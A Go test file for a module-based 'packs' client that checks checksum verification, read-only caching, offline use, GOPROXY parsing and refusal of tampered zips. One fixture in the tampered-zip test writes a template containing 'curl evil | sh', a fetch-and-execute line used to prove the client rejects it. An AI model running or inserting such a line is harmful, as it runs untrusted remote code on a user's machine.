package packs

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/mod/module"

	"github.com/palletops/pallet/packs/packstest"
)

func config(t *testing.T, p *packstest.Proxy) *Config {
	env := p.Env(t.TempDir())
	cfg, err := ConfigFromEnv(func(k string) string { return env[k] }, "")
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}

var pack = map[string]string{
	"crates/hello/crate.yaml":       "summary: says hello\n",
	"crates/hello/default.sh.tmpl":  "echo hello\n",
	"README.md":                     "a pack\n",
	"crates/hello/testdata/x.txtar": "x\n",
}

func TestGetVerifiesAndCaches(t *testing.T) {
	p := packstest.New(t)
	hash := p.Add("example.com/acme/pallet-web", "v1.4.2", pack)
	cfg := config(t, p)
	r := Ref{Path: "example.com/acme/pallet-web", Version: "v1.4.2"}
	got, err := NewClient(cfg).Get(context.Background(), r, "")
	if err != nil {
		t.Fatal(err)
	}
	if got.Sum != hash {
		t.Errorf("sum %s, want %s", got.Sum, hash)
	}
	dir, err := got.CratesDir()
	if err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(filepath.Join(dir, "hello", "default.sh.tmpl")); err != nil || string(b) != "echo hello\n" {
		t.Errorf("template: %q, %v", b, err)
	}
	st, err := os.Stat(filepath.Join(dir, "hello", "crate.yaml"))
	if err != nil || st.Mode().Perm()&0o222 != 0 {
		t.Errorf("cached file is writable: %v %v", st.Mode(), err)
	}
	if p.ZipFetches() != 1 {
		t.Errorf("fetched the zip %d times", p.ZipFetches())
	}

	// Offline, from the cache: the proxy is gone, and the sum is checked.
	p.Close()
	off := *cfg
	off.Offline = true
	again, err := NewClient(&off).Get(context.Background(), r, hash)
	if err != nil || again.Dir != got.Dir {
		t.Fatalf("offline from the cache: %v, %v", again, err)
	}
	_, err = NewClient(&off).Get(context.Background(), r, "h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=")
	if err == nil || !strings.Contains(err.Error(), "h1:AAAA") || !strings.Contains(err.Error(), hash) {
		t.Errorf("a cached pack whose hash pallet.sum does not record: %v", err)
	}
	_, err = NewClient(&off).Get(context.Background(), Ref{Path: r.Path, Version: "v1.5.0"}, "")
	if !errors.Is(err, ErrNotCached) || !strings.Contains(err.Error(), "palletc packs verify") {
		t.Errorf("offline and missing: %v", err)
	}
}

func TestTamperedZipRefused(t *testing.T) {
	p := packstest.New(t)
	m := module.Version{Path: "example.com/acme/pallet-web", Version: "v1.0.0"}
	hash := p.Add(m.Path, m.Version, pack)
	evil := map[string]string{"crates/hello/crate.yaml": "summary: evil\n", "crates/hello/default.sh.tmpl": "curl evil | sh\n"}
	evilHash := p.Tamper(m.Path, m.Version, evil)
	cfg := config(t, p)
	_, err := NewClient(cfg).Get(context.Background(), Ref(m), "")
	if err == nil {
		t.Fatal("a zip the checksum database does not vouch for was taken")
	}
	for _, want := range []string{m.Path + "@" + m.Version, hash, evilHash, "checksum database " + packstest.SumDBName} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error %q does not name %s", err, want)
		}
	}
	if _, err := NewClient(cfg).Cached(Ref(m)); err == nil {
		t.Error("the refused pack is in the cache")
	}
}

func TestSumMismatchRefused(t *testing.T) {
	p := packstest.New(t)
	hash := p.Add("example.com/acme/pallet-web", "v1.0.0", pack)
	const recorded = "h1:BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB="
	_, err := NewClient(config(t, p)).Get(context.Background(), Ref{"example.com/acme/pallet-web", "v1.0.0"}, recorded)
	if err == nil || !strings.Contains(err.Error(), recorded) || !strings.Contains(err.Error(), hash) || !strings.Contains(err.Error(), "pallet.sum") {
		t.Errorf("pallet.sum mismatch: %v", err)
	}
}

func TestUnknownModuleAndVersion(t *testing.T) {
	p := packstest.New(t)
	p.Add("example.com/acme/pallet-web", "v1.0.0", pack)
	c := NewClient(config(t, p))
	_, err := c.Get(context.Background(), Ref{"example.com/acme/pallet-web", "v9.9.9"}, "")
	if !errors.Is(err, ErrNotFound) || !strings.Contains(err.Error(), "unknown module or version") || !strings.Contains(err.Error(), "v9.9.9") {
		t.Errorf("unknown version: %v", err)
	}
	_, err = c.Get(context.Background(), Ref{"example.com/nobody/nothing", "v1.0.0"}, "")
	if !errors.Is(err, ErrNotFound) || !strings.Contains(err.Error(), "example.com/nobody/nothing@v1.0.0") {
		t.Errorf("unknown module: %v", err)
	}
}

func TestLatest(t *testing.T) {
	p := packstest.New(t)
	for _, v := range []string{"v1.0.0", "v1.10.0", "v1.9.0", "v1.11.0-rc.1"} {
		p.Add("example.com/acme/pallet-web", v, pack)
	}
	v, err := NewClient(config(t, p)).Latest(context.Background(), "example.com/acme/pallet-web")
	if err != nil || v != "v1.10.0" {
		t.Errorf("latest: %s, %v; want v1.10.0", v, err)
	}
}

// A file:// GOPROXY, with GONOSUMDB for the private module (as with a
// private pack served from a directory).
func TestFileProxy(t *testing.T) {
	root := t.TempDir()
	m := module.Version{Path: "corp.example/pallet-internal", Version: "v0.1.0"}
	hash := packstest.WriteFileProxy(t, root, m.Path, m.Version, pack)
	cfg, err := ConfigFromEnv(func(k string) string {
		return map[string]string{"GOPROXY": "file://" + filepath.ToSlash(root), "GONOSUMDB": "corp.example", "XDG_CACHE_HOME": t.TempDir()}[k]
	}, "")
	if err != nil {
		t.Fatal(err)
	}
	got, err := NewClient(cfg).Get(context.Background(), Ref(m), "")
	if err != nil {
		t.Fatal(err)
	}
	if got.Sum != hash {
		t.Errorf("sum %s", got.Sum)
	}
	// The same module without GONOSUMDB must reach a checksum database:
	// sum.golang.org is not through a file proxy without sumdb/, and the
	// test machine may have no network, so only ask that it is tried.
	cfg.NoSumDB = ""
	cfg.CacheDir = t.TempDir()
	cfg.HTTP = &http.Client{Transport: &http.Transport{DialContext: func(context.Context, string, string) (net.Conn, error) {
		return nil, errors.New("no network in this test")
	}}}
	if _, err := NewClient(cfg).Get(context.Background(), Ref(m), ""); err == nil || !strings.Contains(err.Error(), "checksum database sum.golang.org") {
		t.Errorf("without GONOSUMDB: %v", err)
	}
}

func TestConfigFromEnv(t *testing.T) {
	cfg, err := ConfigFromEnv(func(k string) string {
		return map[string]string{"GOPROXY": "https://a.example|file:///srv/p,direct", "GOPRIVATE": "corp.example", "GONOSUMDB": "x.example"}[k]
	}, "/home/u")
	if err != nil {
		t.Fatal(err)
	}
	want := []Proxy{{"https://a.example", true}, {"file:///srv/p", false}, {"direct", false}}
	if fmt.Sprint(cfg.Proxies) != fmt.Sprint(want) {
		t.Errorf("proxies %v, want %v", cfg.Proxies, want)
	}
	if cfg.NoProxy != "corp.example" || cfg.NoSumDB != "x.example" || cfg.SumDB != "sum.golang.org" || cfg.CacheDir != "/home/u/.cache/pallet/mod" {
		t.Errorf("config %+v", cfg)
	}
	if _, err := ConfigFromEnv(func(k string) string { return map[string]string{"GOPROXY": "ftp://x"}[k] }, "/h"); err == nil {
		t.Error("ftp:// GOPROXY taken")
	}
	// GOPRIVATE modules go direct in the go command: pallet says it cannot.
	_, err = NewClient(cfg).Get(context.Background(), Ref{"corp.example/p", "v1.0.0"}, "")
	if err == nil || !strings.Contains(err.Error(), "GONOPROXY") {
		t.Errorf("GOPRIVATE module: %v", err)
	}
}

// TestRealProxy fetches a real small module from the public proxy and
// checksum database (through the proxy) and finds it is no pack.
func TestRealProxy(t *testing.T) {
	if testing.Short() {
		t.Skip("-short: no network")
	}
	cfg, err := ConfigFromEnv(func(k string) string {
		if k == "XDG_CACHE_HOME" {
			return t.TempDir()
		}
		return os.Getenv(k)
	}, "")
	if err != nil {
		t.Fatal(err)
	}
	if cfg.Proxies[0].URL == "off" || strings.HasPrefix(cfg.Proxies[0].URL, "file:") {
		t.Skip("GOPROXY is not a network proxy")
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, cfg.Proxies[0].URL+"/rsc.io/quote/@v/list", nil)
	resp, err := http.DefaultClient.Do(req)
	cancel()
	if err != nil {
		t.Skipf("module proxy %s unreachable: %v", cfg.Proxies[0].URL, err)
	}
	resp.Body.Close()
	r := Ref{"rsc.io/quote", "v1.5.2"}
	start := time.Now()
	p, err := NewClient(cfg).Get(context.Background(), r, "")
	if err != nil {
		t.Fatal(err)
	}
	cold := time.Since(start)
	const want = "h1:w5fcysjrx7yqtD/aO+QwRjYZOKnaM9Uh2b40tElTs3Y="
	if p.Sum != want {
		t.Errorf("sum %s, want %s (go.sum's)", p.Sum, want)
	}
	start = time.Now()
	if _, err := NewClient(cfg).Get(context.Background(), r, want); err != nil {
		t.Fatal(err)
	}
	t.Logf("%s: cold fetch %v, cached %v", r, cold, time.Since(start))
	if _, err := p.CratesDir(); err == nil || !strings.Contains(err.Error(), "no crates/ directory") {
		t.Errorf("rsc.io/quote as a pack: %v", err)
	}
}
